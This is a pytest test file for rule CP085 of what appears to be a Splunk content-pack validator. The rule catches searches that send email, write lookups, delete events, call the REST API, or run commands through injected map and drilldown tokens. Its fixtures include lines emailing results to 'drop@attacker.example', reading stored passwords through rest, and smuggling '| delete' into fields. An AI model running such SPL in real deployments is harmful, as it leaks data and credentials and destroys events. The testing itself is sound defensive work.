"""CP085: no search of the pack runs a command whose work is done outside the search (mail, an index, a lookup, a
file, deleted events, a script, an alert action, Splunk's REST API). The app's correlation searches run on a
schedule as its owner; a contributed ``| sendemail to=...`` validated and was built into savedsearches.conf."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from contentpack.content.diagnostics import Diagnostic
from contentpack.content.rules import RuleContext, side_effects
from contentpack.esapp.builder import build
from contentpack.spl.parser import command_words

from .helpers import TTP, Validate, add_command, at, call_macro_in_two_searches, define_macro, edit, locate
from .test_spl_checks import escu_pack


def _cp085(pack: Path, validate: Validate) -> list[Diagnostic]:
    return [d for d in validate(pack).diagnostics if d.rule == "CP085"]


# A map token's value the search writes (how it does, to fill in)
_WRITTEN = ("map search in detection 'Entra ID User Declined Consent For OAuth App' uses $next$, whose value the "
            "search writes itself ({}): map writes the value into its search text and runs it, so a '|' in it starts "
            "a command of the search's choosing (sendemail, delete...), which no rule reads; write that text in the "
            "map search itself")


def _one_at_next(pack: Path, validate: Validate) -> Diagnostic:
    """The one CP085 finding, which must stand at the TTP search's ``$next$``."""
    found = _cp085(pack, validate)
    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "$next$"))]
    return found[0]


def test_sendemail_at_the_end_of_a_search_is_an_error_at_the_command(pack: Path, validate: Validate) -> None:
    add_command(pack, 'sendemail to="drop@attacker.example" sendresults=true')
    result = validate(pack)
    found = [d for d in result.diagnostics if d.rule == "CP085"]
    line, col = locate(pack, TTP, "sendemail")
    assert [at(d) for d in found] == [(TTP, line, col)]
    assert not result.ok and found[0].severity == "error"
    assert found[0].message == (
        "'sendemail' in detection 'Entra ID User Declined Consent For OAuth App' sends the results by email: a "
        "search of the app must change and reveal nothing outside its own results (a correlation search runs on a "
        "schedule as the app's owner, a drilldown as the analyst who opens it); remove the command")


@pytest.mark.parametrize(("command", "name"), [
    ("outputlookup append=true identity_lookup_expanded", "outputlookup"),
    ("collect index=risk", "collect"),
    ("delete", "delete"),
    ("script python beacon", "script"),
    ("sendalert risk param._risk_score=100", "sendalert"),
    ("outputcsv out", "outputcsv"),
    ("tscollect namespace=x", "tscollect"),
    ("appendpipe [| rest /services/storage/passwords | table clear_password]", "rest"),
    ("join type=left user [rest /services/authentication/users | rename title as user]", "rest"),
    ("foreach * [| sendemail to=x@attacker.example]", "sendemail"),
    ('map maxsearches=1 search="| makeresults | collect index=main"', "collect"),
    ("SENDEMAIL to=x@attacker.example", "sendemail"),
    ('append [| savedsearch "Mail The Findings"]', "savedsearch"),
    ("append [savedsearch Mail_The_Findings]", "savedsearch"),
    ('append [| loadjob savedsearch="analyst:search:Their Findings"]', "loadjob"),
    ("runshellscript beacon.sh 1 a b c d e f g h", "runshellscript"),
    ("append [| history events=false | table search]", "history"),
    ("map Mail_The_Findings maxsearches=5", "map"),
    ('map "Mail The Findings"', "map"),
])
def test_each_such_command_is_found_wherever_it_runs(pack: Path, validate: Validate, command: str,
                                                      name: str) -> None:
    add_command(pack, command)
    found = _cp085(pack, validate)
    assert len(found) == 1 and found[0].message.startswith(f"'{name}' in detection "), found
    line, col = locate(pack, TTP, f"| {command}")
    col += 2
    col += command.find(name if name in command else name.upper())
    assert at(found[0]) == (TTP, line, col)


@pytest.mark.parametrize("command", [
    'eval note="| sendemail to=x"',  # a string, not a command
    "search delete OR collect",  # terms of the search command
    "join user [search Operation=delete | fields user]",  # a subsearch's implicit search
    "appendpipe [sendemail | fields user]",  # no pipe: the terms of an implicit search, sendemail generates nothing
    "eval outputlookup=1, rest=2",  # field names
    'map search="search user=$user$"',  # map runs its search string, not a saved search
])
def test_the_words_as_text_are_not_commands(pack: Path, validate: Validate, command: str) -> None:
    add_command(pack, command)
    assert _cp085(pack, validate) == []


@pytest.mark.parametrize("map_search", [
    "| makeresults | $next$ to=x@attacker.example",  # right after a "|"
    "$next$",  # the whole search
    "search user=a [$next$]",  # a subsearch opened without "|"
    "search user=a [| $next$ | fields user]",  # after a "|" of a subsearch
])
def test_a_map_token_where_a_command_goes_is_an_error_at_the_token(pack: Path, validate: Validate,
                                                                    map_search: str) -> None:
    """Whatever the field's value, it names the command map runs: an event field's as much as an eval's."""
    add_command(pack, f'map maxsearches=1 search="{map_search}"')
    assert _one_at_next(pack, validate).message == (
        "'$next$' in detection 'Entra ID User Declined Consent For OAuth App' stands where map's search names a "
        "command: map writes each result's value of next there and runs it, so the value chooses the command "
        "(sendemail, delete...) and no rule can read it; write the command in the search string")


@pytest.mark.parametrize("before", [
    'eval next="x | sendemail to=x@attacker.example"',
    'eval next="x " . printf("%c", 124) . " delete"',  # the "|" made from its code
    'eval next=if(count > 0, urldecode("x %7C delete"), user)',  # a branch the eval returns
    'eval raw="x | delete" | stats values(raw) as next by user',  # through stats, by another name
    'eval raw="x | delete" | rename raw as next',
    'fillnull value="x | delete" next',
    'eval next=user | replace "*" with "x | delete" in next',
    'eval next=user | rex field=next mode=sed "s/.*/x | delete/"',
    'fillnull value="x | delete"',  # every field
    'append [| makeresults | eval next="x | delete"]',  # out of a subsearch
    'join type=left user [| makeresults | eval user="a", next="x | delete"]',
    'appendpipe [eval next="x | delete"]',
    'rangemap field=count low=0-1 default="x | delete" | rename range as next',  # rangemap writes "range"
    'rangemap field=count low=0-1 "x | delete"=2-5 | rename range as next',  # a label
    'rangemap field=count low=0-1 x%7Cdelete=2-5 | eval next=urldecode(range)',
    'convert timeformat="%Y | delete" ctime(lastTime) AS next',  # the format's own characters
    'convert timeformat="%%7C" ctime(lastTime) AS next | eval next=urldecode(next)',
    'eval next=strftime(lastTime, "%Y | delete")',
])
@pytest.mark.parametrize("map_search", [
    "| makeresults $next$",  # an argument's place: the value's "|" starts a command of its own
    r"search user=\"$next$\"",  # inside quotes: the value's own quote ends them
])
def test_a_map_token_the_search_writes_is_an_error_at_the_token(pack: Path, validate: Validate, before: str,
                                                                 map_search: str) -> None:
    """``eval next="x | sendemail ..." | map search="... $next$"``: CP085 read only the search's own commands."""
    add_command(pack, f'{before} | map maxsearches=1 search="{map_search}"')
    assert _one_at_next(pack, validate).message == _WRITTEN.format(
        "a string of its own before the map, which can hold SPL")


def test_a_map_token_a_macro_writes_is_at_the_call_naming_the_macro(pack: Path, validate: Validate) -> None:
    """The map and the string before it are the macro's: at the macro call, the message saying which macro."""
    define_macro(pack, "entra_id_next", 'eval next="x | delete" | map maxsearches=1 search="search user=$next$"')
    add_command(pack, "`entra_id_next`")
    found = _cp085(pack, validate)
    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "`entra_id_next`"))]
    assert found[0].message == _WRITTEN.format("a string of its own before the map, which can hold SPL") + (
        ", inside the expansion of macro `entra_id_next`")


@pytest.mark.parametrize("command", ['strcat "x | delete" user next', 'foreach next [eval <<FIELD>>="| x"]'])
def test_a_map_token_a_command_the_validator_cannot_read_writes_is_an_error(pack: Path, validate: Validate,
                                                                             command: str) -> None:
    """Valid SPL the engine does not read, holding a string that can be SPL, may write it into the field."""
    add_command(pack, f'{command} | map maxsearches=1 search="search user=$next$"')
    assert _one_at_next(pack, validate).message == _WRITTEN.format(
        f"or may: '{command}' sets it, a command the validator cannot read")


@pytest.mark.parametrize("before", [
    "eval next=user",  # an event's value (CP086 judges those an attacker writes)
    "eval next=count + 1",  # a number
    'eval next=coalesce(user, "unknown user")',  # a string that cannot hold SPL
    'eval next=if(count > 0, user, "x | delete") | eval next=user',  # written, then overwritten
    'eval next="x | delete" | stats count as next by user',  # a count
    'eval next=if(match(user, "^[a-z]+$"), user, null())',  # a condition's string is not returned
    'eval next=user | fillnull value="x | delete" other',  # another field
    'eval next=sha256("x | delete")',  # hexadecimal digits
    'strcat "unknown " user next',  # read by no rule, but its strings cannot hold SPL
    'append [| makeresults | eval next="x | delete" | stats count by user]',  # the subsearch keeps none of it
    'search [| makeresults | eval next="x | delete" | fields next]',  # a subsearch of terms writes no field
    'rangemap field=count low=0-1 high=2-5 default=unknown | eval next=range',
    'convert timeformat="%Y-%m-%dT%H:%M:%S" ctime(lastTime) AS next',  # directives: digits, letters and signs
    'convert timeformat="%3N %:z %b" ctime(lastTime) AS next',
    'convert timeformat="| delete" mktime(lastTime) AS next',  # a number
    'eval next=strftime(lastTime, "%Y-%m-%dT%H:%M:%S")',  # as convert's
])
def test_a_map_token_on_a_value_the_search_does_not_write_passes(pack: Path, validate: Validate,
                                                                  before: str) -> None:
    add_command(pack, f'{before} | map maxsearches=1 search="search user=$next$"')
    assert _cp085(pack, validate) == []


def test_makeresults_data_the_engine_does_not_read_is_an_error(pack: Path, validate: Validate) -> None:
    """``makeresults format=json data=...`` (its values the search's own text) is valid SPL the engine does not
    read: the unread command's strings, as ``strcat``'s."""
    command = r'append [| makeresults format=json data="[{\"next\": \"x | delete\"}]"]'
    add_command(pack, f'{command} | map maxsearches=1 search="search user=$next$"')
    assert _one_at_next(pack, validate).message == _WRITTEN.format(
        "or may: 'append [| makeresults format=json dat...' sets it, a command the validator cannot read")


# The fixture's lookup with a column of searches to run, one value of which can hold SPL (at line 3)
_PLAYBOOKS = 'appDisplayName,known,playbook\nContoso Portal,true,triage\nFabrikam Mail,false,"triage | delete"\n'
_FROM_LOOKUP = _WRITTEN.replace("write that text in the map search itself",
                                "keep such text out of the table, or key the map search on another field")


@pytest.mark.parametrize("before", [
    "lookup entra_id_known_apps appDisplayName OUTPUT playbook AS next",
    "lookup entra_id_known_apps appDisplayName OUTPUTNEW playbook AS next",
    "lookup entra_id_known_apps appDisplayName | rename playbook as next",  # no OUTPUT: every other column
    "lookup entra_id_known_apps appDisplayName OUTPUT playbook | stats values(playbook) as next by user",
    "append [| inputlookup entra_id_known_apps | rename playbook as next]",
    "join type=left appDisplayName [| inputlookup entra_id_known_apps | eval next=playbook]",
])
def test_a_map_token_a_value_of_the_packs_lookup_writes_is_an_error_naming_the_cell(
        pack: Path, validate: Validate, before: str) -> None:
    """The pack's lookup ships with the app and is the pack's own text, as an eval string is (CP045 takes it as
    clean of the attacker: the two rules ask different questions of one table). CP085 followed no lookup."""
    (pack / "lookups/entra_id_known_apps.csv").write_text(_PLAYBOOKS, encoding="utf-8")
    add_command(pack, f'{before} | map maxsearches=1 search="search user=$next$"')
    assert _one_at_next(pack, validate).message == _FROM_LOOKUP.format(
        "a value of the pack's lookup, which can hold SPL: lookups/entra_id_known_apps.csv line 3, column "
        "playbook, holds 'triage | delete'")


def test_a_lookups_default_match_is_its_value_when_min_matches_asks_for_it(pack: Path, validate: Validate) -> None:
    """transforms.conf.spec: "When min_matches is greater than 0 and Splunk software finds fewer than min_matches
    for any given input, it provides this default_match value"; without min_matches, never."""
    with (pack / "lookups/entra_id_known_apps.yml").open("a", encoding="utf-8") as file:
        file.write("default_match: '| delete'\n")
    add_command(pack, 'lookup entra_id_known_apps appDisplayName OUTPUT known AS next '
                      '| map maxsearches=1 search="search user=$next$"')
    assert _cp085(pack, validate) == []
    with (pack / "lookups/entra_id_known_apps.yml").open("a", encoding="utf-8") as file:
        file.write("min_matches: 1\n")
    assert _one_at_next(pack, validate).message == _FROM_LOOKUP.format(
        "a value of the pack's lookup, which can hold SPL: the default_match of lookup 'entra_id_known_apps', "
        "'| delete'")


@pytest.mark.parametrize("before", [
    "lookup entra_id_known_apps appDisplayName OUTPUT known AS next",  # its other column
    "lookup entra_id_known_apps playbook AS user OUTPUT known AS next",  # matched on, not written
    "lookup entra_id_known_apps appDisplayName OUTPUT playbook AS next | eval next=user",  # overwritten
])
def test_a_map_token_on_a_lookup_column_holding_no_spl_passes(pack: Path, validate: Validate,
                                                               before: str) -> None:
    (pack / "lookups/entra_id_known_apps.csv").write_text(_PLAYBOOKS, encoding="utf-8")
    add_command(pack, f'{before} | map maxsearches=1 search="search user=$next$"')
    assert _cp085(pack, validate) == []


def test_a_lookup_the_pack_does_not_ship_is_cp025s_alone(pack: Path, validate: Validate) -> None:
    """A tenant's table: its values are not known here, and are the tenant's data, as CP045 reads a lookup's
    outputs; the table itself is CP025's error, the one finding."""
    add_command(pack, 'lookup tenant_playbooks appDisplayName OUTPUT playbook AS next '
                      '| map maxsearches=1 search="search user=$next$"')
    found = [d.rule for d in validate(pack).diagnostics if d.severity == "error" or d.rule == "CP085"]
    assert found == ["CP025"]


def test_a_drilldown_is_judged_too(pack: Path, validate: Validate) -> None:
    edit(pack, TTP, 'search  user = "$user$"', 'search  user = "$user$" | sendemail to="$user$"')
    found = _cp085(pack, validate)
    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "sendemail"))]
    assert "'sendemail' in drilldown 1 of detection 'Entra ID User Declined Consent For OAuth App'" in found[0].message


# A drilldown's token where a command goes
_DRILLDOWN_COMMAND = ("'$next$' in drilldown 1 of detection 'Entra ID User Declined Consent For OAuth App' stands "
                      "where a command's name goes: ES writes the notable's value of next there when an analyst "
                      "opens the drilldown and runs the search as them, so the value chooses the command (sendemail, "
                      "delete...) and no rule can read it; write the command in the drilldown search")


def _drilldown(pack: Path, search: str) -> None:
    """The fixture TTP's drilldown 1 searches ``search`` (a YAML single-quoted string)."""
    edit(pack, TTP, "'%original_detection_search% | search  user = \"$user$\"'", "'" + search.replace("'", "''") + "'")


@pytest.mark.parametrize("search", [
    '%original_detection_search% | search user = "$user$" | $next$',  # after a "|"
    '%original_detection_search% | search user = "$user$" | $next$ user',  # with arguments
    '%original_detection_search% | search [ $next$ ]',  # first in a subsearch opened without "|"
    '%original_detection_search% | search [| $next$ | fields user]',  # after a subsearch's "|"
    '$next$',  # the whole search
    '  $next$ | stats count by user',  # its first word: a leading "| rest ..." in the value is a command
    '| makeresults | map search="| $next$"',  # ES fills a map's search in a drilldown too
])
def test_a_drilldown_token_where_a_command_goes_is_an_error_at_the_token(pack: Path, validate: Validate,
                                                                          search: str) -> None:
    """Whatever the field, the value ES writes in names the command the analyst's click runs. The one error: not
    also CP061's "unknown search command '_next_'" for the name the parser reads in the token's place."""
    _drilldown(pack, search)
    diagnostics = validate(pack).diagnostics
    found = [d for d in diagnostics if d.rule == "CP085"]
    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "$next$"))]
    assert found[0].message == _DRILLDOWN_COMMAND and found[0].severity == "error"
    assert [d.message for d in diagnostics if d.rule in ("CP060", "CP061")] == []


@pytest.mark.parametrize(("search", "rule"), [
    ('%original_detection_search% | search user = "$user$" | $appDisplayName$', "CP085"),
    ("$appDisplayName$", "CP085"),
    ('%original_detection_search% | search app = "$appDisplayName$"', "CP045"),  # an argument: CP045's alone
])
def test_an_attacker_written_token_where_a_command_goes_is_one_finding_not_two(pack: Path, validate: Validate,
                                                                              search: str, rule: str) -> None:
    """A token where a command's name goes is CP085's error at the token; when an attacker writes the field
    (``appDisplayName``: the app's name, the attacker's to choose), CP045 warned at the drilldown's key as well,
    two findings for one mistake. CP045 now leaves that token to CP085; it still warns of the token in an
    argument's place, and of the drilldown's name that shows it."""
    _drilldown(pack, search)
    found = [d for d in validate(pack).diagnostics if d.rule in ("CP045", "CP085")]
    # CP085 at the token, CP045 at the drilldown search's value
    where = (TTP, *locate(pack, TTP, "$appDisplayName$" if rule == "CP085" else "'%original_detection_search% | s"))
    assert [(d.rule, at(d)) for d in found] == [(rule, where)], found
    edit(pack, TTP, 'View the detection results for - "$user$"', 'View the detection results for - "$appDisplayName$"')
    found = [d for d in validate(pack).diagnostics if d.rule in ("CP045", "CP085")]
    assert ("CP045", (TTP, *locate(pack, TTP, "View the detection results"))) in [(d.rule, at(d)) for d in found]
    assert len(found) == 2, found  # the name's warning beside the one finding of the search


@pytest.mark.parametrize("search", [
    '%original_detection_search% | search user = "$next$"',  # a value: CP045 judges who writes it
    '%original_detection_search% | search $next$',  # search terms
    '%original_detection_search% | search [search user=$next$ | fields user]',
    '%original_detection_search% | eval next=$next$ | stats count by next',
    '"$next$" | stats count',  # a quoted first term
    'user=$next$',
])
def test_a_drilldown_token_in_an_argument_is_not_a_command(pack: Path, validate: Validate, search: str) -> None:
    _drilldown(pack, search)
    assert _cp085(pack, validate) == []


def test_a_macro_writing_one_is_reported_once_in_its_own_file(pack: Path, validate: Validate) -> None:
    call_macro_in_two_searches(pack, "entra_id_tidy", "outputlookup append=true known_apps.csv")
    found = _cp085(pack, validate)
    macro = "macros/entra_id_tidy.yml"
    assert [at(d) for d in found] == [(macro, *locate(pack, macro, "outputlookup"))]
    assert found[0].message.startswith("'outputlookup' in macro 'entra_id_tidy' writes the results to a lookup")


@pytest.mark.parametrize("definition", [
    "fields * | $next$",
    # in a definition, $next$ where map's command goes is the call's argument, not a result's value
    'map maxsearches=1 search="| makeresults | $next$"',
])
def test_an_argument_bringing_one_is_reported_at_the_call(pack: Path, validate: Validate, definition: str) -> None:
    define_macro(pack, "entra_id_then", definition, ("next",))
    add_command(pack, "`entra_id_then(delete)`")
    found = _cp085(pack, validate)
    assert [at(d) for d in found] == [(TTP, *locate(pack, TTP, "`entra_id_then"))]
    assert found[0].message.endswith(", inside the expansion of macro `entra_id_then`")


def test_the_fixture_pack_has_none(pack: Path, validate: Validate) -> None:
    assert _cp085(pack, validate) == []


def test_build_refuses_the_pack_and_writes_no_app(pack: Path, tmp_path: Path) -> None:
    """What the finding is for: ``build`` shipped the command in default/savedsearches.conf."""
    add_command(pack, 'sendemail to="drop@attacker.example"')
    report = build(pack, tmp_path / "dist", environ={"SOURCE_DATE_EPOCH": "1764000000"})
    assert not report.ok and [d.rule for d in report.diagnostics if d.severity == "error"] == ["CP085"]
    assert not (tmp_path / "dist").exists()


def test_command_words_reads_the_text_not_the_engine() -> None:
    text = 'x | foreach * [| sendemail to=y] | map search="search a | delete" | eval b="| collect"'
    words = [(w.name, text[w.offset:w.offset + len(w.name)], w.piped) for w in command_words(text)]
    assert words == [("foreach", "foreach", True), ("sendemail", "sendemail", True), ("map", "map", True),
                     ("search", "search", False), ("delete", "delete", True), ("eval", "eval", True)]


def test_a_map_search_holding_escapes_is_placed_at_its_quote() -> None:
    text = r'x | map search="search a=\"b\" | delete"'
    [_, _, delete] = command_words(text)
    assert delete.name == "delete" and text[delete.offset] == '"'


@pytest.mark.slow
def test_escu_runs_none_but_its_four_baselines_outputlookup_and_one_drilldown_search_field() -> None:
    """What CP085 refuses in ESCU's 1,870 detections (a063ed3): the four baseline searches that keep their own
    state with ``outputlookup``, and the one drilldown whose whole search is a field: *CrowdStrike Falcon Stream
    Alerts* runs ``$annotations.drilldown_search$``, a search its own search writes by joining the event's
    ``UserName`` and ``ComputerName`` into SPL text, so a user name holding ``x | delete`` is a command the analyst's
    click runs. Not the detections running ``map`` searches, naming the words as text, or keying their drilldowns'
    arguments on tokens (``IN ("$user$")``, ``| search dest = "$dest$"``)."""
    pack = escu_pack()
    context = RuleContext(pack, Path("/nonexistent"), dt.date(2026, 12, 1), frozenset(), None)
    findings = [d for rule in side_effects.RULES for d in rule(context)]
    assert sorted((d.position.path.rsplit("/", 1)[-1], d.message.split("'")[1]) for d in findings) == [
        ("crowdstrike_falcon_stream_alerts.yml", "$annotations.drilldown_search$"),
        ("detect_gcp_storage_access_from_a_new_ip.yml", "outputlookup"),
        ("detect_s3_access_from_a_new_ip.yml", "outputlookup"),
        ("detect_spike_in_blocked_outbound_traffic_from_your_aws.yml", "outputlookup"),
        ("detect_spike_in_s3_bucket_deletion.yml", "outputlookup"),
    ]
